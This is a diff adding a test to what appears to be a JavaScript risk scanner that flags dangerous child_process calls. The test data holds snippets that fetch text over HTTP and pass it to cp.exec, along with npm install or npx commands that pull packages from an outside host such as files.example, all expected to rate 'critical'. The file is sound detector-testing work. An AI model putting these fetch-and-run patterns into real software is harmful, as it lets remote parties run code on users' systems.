@@ -689,3 +689,14 @@ test('programs that only unpack run nothing of what they get; which package is i
   for (const call of ['execSync(`npm install --prefix ${dir} ${r.name}@${r.version}`)', 'spawn("npm", ["install", r.name])', 'exec("yarn add -D " + r.name)']) assert.equal(answered(call), 'high', call);
   for (const call of ['execSync(`npm install ${r.name} && node run.js`)', 'execSync(`npm exec ${r.name}`)', 'execSync(`npx ${r.name}`)', 'execSync(`npm ${r.name}`)', 'execSync(`npm install ${r.name}; ${r.then}`)', 'execSync(`npm install https://files.example/${r.name}.tgz`)', 'execSync(`npm install ${r.name} --registry https://files.example`)']) assert.equal(answered(call), 'critical', call);
 });
+
+test('bad: what functions are given to call gets what these call it with', () => {
+  const ask = 'const cp = require("child_process"); function ask(u, done) { require("http").get(u, (r) => { let t = ""; r.on("data", (d) => { t += d }); r.on("end", () => { done(t) }) }) }';
+  for (const code of [
+    'ask(u, (t) => cp.exec(t))',
+    'ask(u, function (t) { let job; try { job = JSON.parse(t) } catch { return } cp.exec(job.line) })',
+    'function next(done) { ask(u, done) } next((t) => cp.exec(t))',
+    'new Promise((resolve) => ask(u, (t) => resolve(t))).then((t) => cp.exec(t))',
+  ]) assert.equal(worst(`${ask}; ${code}`), 'critical', code);
+  for (const code of ['ask(u, (t) => console.log(t)); cp.exec("sync")', 'const each = (done) => done("sync"); each((t) => cp.exec(t)); ask(u, () => {})']) assert.equal(worst(`${ask}; ${code}`), 'nothing', code);
+});
